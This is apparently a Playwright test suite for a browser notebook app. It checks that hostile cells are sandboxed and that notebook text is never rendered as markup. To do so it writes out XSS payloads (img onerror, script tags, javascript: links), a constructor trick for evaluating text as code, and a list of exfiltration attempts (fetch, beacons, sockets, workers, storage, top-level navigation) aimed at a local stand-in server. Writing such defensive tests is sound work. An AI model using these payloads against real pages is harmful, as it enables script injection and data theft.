import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from './watched.ts';
import { cell, expectBadge, letDraw, openNotebook, serveNotebook, showView } from './notebook-page.ts';

/** A server elsewhere that must never hear of us. */
let server: Server;
let heard: string[] = [];
let elsewhere = '';

test.beforeAll(async () => {
  server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

test.afterAll(() => {
  server.close();
});

test.beforeEach(() => {
  heard = [];
});

test.afterEach(async ({ page }) => {
  await page.unrouteAll({ behavior: 'ignoreErrors' });
});

/** What stands in the kernel instead of the constructors of functions. */
const closed = /throw (?:new )?TypeError\([^()]*A model makes no functions of text[^()]*\)/;

/** Opens the way round the compiler that the kernel has closed, to see whether what is behind it holds by itself. */
async function openWayRound(page: Page): Promise<void> {
  await page.route('**/assets/*.js', async (route) => {
    const response = await route.fetch();
    const body = await response.text();
    await route.fulfill({ response, body: body.replace(closed, 'return Function(...arguments)') });
  });
}

/** A notebook whose rule runs `attack` as plain JavaScript, past the compiler's look at names, and keeps what came of it. */
const hostile = (attack: string): string => `---
title: Hostile
seed: 1
---

# Hostile

\`\`\`ts rules attack
const Go = message('Go')
const make = (text: string): unknown => ((() => {}) as any)['con' + 'structor'](text)()
const thief = node('thief', {
  state: () => ({ status: 'waiting', loot: '' }),
  start(s, ctx) { ctx.setTimer(Go(), 1) },
})
thief.on(Go, (s, m, ctx) => {
  s.status = 'tried'
  try { s.loot = String(make(${JSON.stringify(attack)})) } catch (error) { s.loot = 'threw ' + error }
})
\`\`\`

\`\`\`ts scenario
scenario('alone', { until: 1000 }, (world) => { world.add(thief) })
\`\`\`
`;

const attacks: readonly (readonly [what: string, code: string, result: string])[] = [
  ['fetch', 'return typeof fetch', 'undefined'],
  ['XMLHttpRequest', 'return typeof XMLHttpRequest', 'undefined'],
  ['WebSocket', 'return typeof WebSocket', 'undefined'],
  ['importScripts', 'return typeof importScripts', 'undefined'],
  ['other workers', 'return typeof Worker', 'undefined'],
  ['IndexedDB', 'return typeof indexedDB', 'undefined'],
  ['the page', 'return typeof parent', 'undefined'],
  ['local storage', 'return typeof localStorage', 'undefined'],
  ['its origin', 'return self.origin', 'null'],
];

test('what a hostile cell reaches for is not there', async ({ page }) => {
  const code = `return [${attacks.map(([, attack]) => `(() => { ${attack} })()`).join(', ')}].join()`;
  await openWayRound(page);
  await serveNotebook(page, 'hostile.sim.md', hostile(code));
  await openNotebook(page, 'hostile.sim.md');
  await page.getByRole('tab', { name: 'State' }).click();
  await expect(page.getByRole('grid', { name: 'thief' })).toContainText('tried');
  await expect(page.getByRole('grid', { name: 'thief' })).toContainText(
    attacks.map(([, , expected]) => expected).join(','),
  );
});

test('a hostile cell that would make a function of text is told so, and sees no clock', async ({ page }) => {
  await serveNotebook(page, 'hostile.sim.md', hostile('return Date.now()'));
  await openNotebook(page, 'hostile.sim.md');
  await showView(page, 'State');
  await expect(page.getByRole('grid', { name: 'thief' })).toContainText('A model makes no functions of text');
});

test('a hostile cell cannot load anything, not even by import()', async ({ page }) => {
  const code = `import('${elsewhere}/imported.js').catch(() => {}); return 'asked'`;
  await openWayRound(page);
  await serveNotebook(page, 'hostile.sim.md', hostile(code));
  await openNotebook(page, 'hostile.sim.md');
  await page.getByRole('tab', { name: 'State' }).click();
  await expect(page.getByRole('grid', { name: 'thief' })).toContainText('asked');
  await letDraw(page, 20);
  // What was asked for before this would be heard before this.
  await fetch(`${elsewhere}/fence`);
  expect(heard).toEqual(['/fence']);
});

test("a notebook's prose and names are text, never markup", async ({ page }) => {
  const mark = '<img src=x onerror="window.stolen = 1">';
  const text = hostile("return '<img src=x onerror=alert(1)>'")
    .replace(
      '# Hostile',
      `# Hostile ${mark}\n\n${mark}\n\n<script>window.stolen = 1</script>\n\n[x](javascript:window.stolen=1)`,
    )
    .replace("scenario('alone'", `scenario(${JSON.stringify(mark)}`);
  await serveNotebook(page, 'hostile.sim.md', text);
  await openNotebook(page, 'hostile.sim.md');
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  expect(await page.locator('[onerror], a[href^="javascript:"]').count()).toBe(0);
});

test('the page refuses scripts that are not its own', async ({ page }) => {
  await page.goto('');
  const blocked = await page.evaluate(async (origin) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const inline = document.createElement('script');
    inline.textContent = 'window.inlineRan = 1';
    document.body.append(inline);
    await fetch(`${origin}/stolen`).catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return { violations, ran: 'inlineRan' in window };
  }, elsewhere);
  expect(blocked.ran).toBe(false);
  expect(blocked.violations).toContain('connect-src');
  expect(blocked.violations.some((directive) => directive.startsWith('script-src'))).toBe(true);
  expect(heard).toEqual([]);
});

test("the kernels' frames have no origin and no name for the page", async ({ page }) => {
  await page.goto('');
  const frames = page.locator('iframe');
  await page.goto('#/n/01-two-phase-commit.sim.md');
  // One for the run, one for its checks.
  await expect(frames).toHaveCount(2, { timeout: 20_000 });
  for (const frame of await frames.all()) await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
  // A frame is there before its document is.
  const kernels = () => page.frames().filter((one) => one.url().endsWith('/kernel.html'));
  const origins = () => Promise.all(kernels().map((kernel) => kernel.evaluate(() => self.origin)));
  await expect.poll(origins).toEqual(['null', 'null']);
});

/** Each does something outside its worker when it can. `there` is a server that must not hear of it. */
const reaches = (there: string): string => `
  const reaches = {
    fetch: () => fetch('${there}/fetch'),
    own: () => fetch('/stolen'),
    request: () => { const r = new XMLHttpRequest(); r.open('GET', '${there}/request'); r.send() },
    hidden: () => { for (let o = self; o; o = Object.getPrototypeOf(o)) if (Object.hasOwn(o, 'fetch')) o.fetch.call(self, '${there}/hidden') },
    beacon: () => navigator.sendBeacon('${there}/beacon'),
    socket: () => new WebSocket('${there.replace('http', 'ws')}/socket'),
    events: () => new EventSource('${there}/events'),
    scripts: () => importScripts('${there}/scripts'),
    worker: () => new Worker('${there}/worker'),
    blob: () => new Worker(URL.createObjectURL(new Blob(["fetch('${there}/blob')"]))),
    image: () => { const image = new Image(); image.src = '${there}/image' },
    database: () => indexedDB.open('stolen'),
    caches: () => caches.open('stolen'),
    storage: () => { localStorage.setItem('stolen', '1') },
    channel: () => new BroadcastChannel('rehearsal').postMessage({ id: 'hostile.sim.md', version: 99 }),
    page: () => { parent.document.title = 'stolen' },
    top: () => { top.location = '${there}/top' },
    opens: () => open('${there}/opens'),
    message: () => postMessage({ type: 'stolen', stolen: true }),
  };
  for (const reach of Object.values(reaches)) { try { Promise.resolve(reach()).catch(() => {}) } catch {} }
  return 'tried all';
`;

test('whatever a hostile cell does, nothing leaves its worker: no request, no storage, no word to the page', async ({
  page,
}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await openWayRound(page);
  await serveNotebook(page, 'hostile.sim.md', hostile(reaches(elsewhere)));
  await openNotebook(page, 'hostile.sim.md');
  await showView(page, 'State');
  await expect(page.getByRole('grid', { name: 'thief' })).toContainText('tried all');
  await letDraw(page, 20);
  await fetch(`${elsewhere}/fence`);
  expect(heard).toEqual(['/fence']);
  expect(asked.filter((url) => url.startsWith(elsewhere) || url.includes('stolen'))).toEqual([]);

  const kept = await page.evaluate(async () => ({
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    local: Object.keys(localStorage),
    title: document.title,
  }));
  expect(JSON.stringify(kept)).not.toContain('stolen');
  await expect(page.getByText('changed in another tab')).toHaveCount(0);
  await expect(page).toHaveURL(/hostile/);
  // And the page still does its work.
  await expectBadge(page, 'rules attack', 'live');
});

test('a link in a plot leads nowhere, and its texts are text', async ({ page }) => {
  const trap = "[{ x: 1, y: 1, u: 'javascript:window.stolen=1', t: '<img src=x onerror=\"window.stolen=1\">' }]";
  const text = `${hostile("return ''")}
\`\`\`ts plot trap
Plot.plot({ marks: [
  Plot.dot(${trap}, { x: 'x', y: 'y', r: 20, fill: 'red', href: 'u', title: 't', tip: true }),
  Plot.text(${trap}, { x: 'x', y: 'y', text: 't', href: 'u' }),
] })
\`\`\`
`;
  await serveNotebook(page, 'hostile.sim.md', text);
  await openNotebook(page, 'hostile.sim.md');
  const plot = cell(page, 'plot trap');
  await plot.scrollIntoViewIfNeeded();
  const dot = plot.locator('svg [aria-label="dot"] circle');
  await expect(dot).toBeVisible();
  const url = page.url();
  await dot.click({ force: true });
  expect(page.url()).toBe(url);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  await expect(page.locator('rh-plot a[href], rh-plot [href^="javascript:"], rh-plot img')).toHaveCount(0);
});
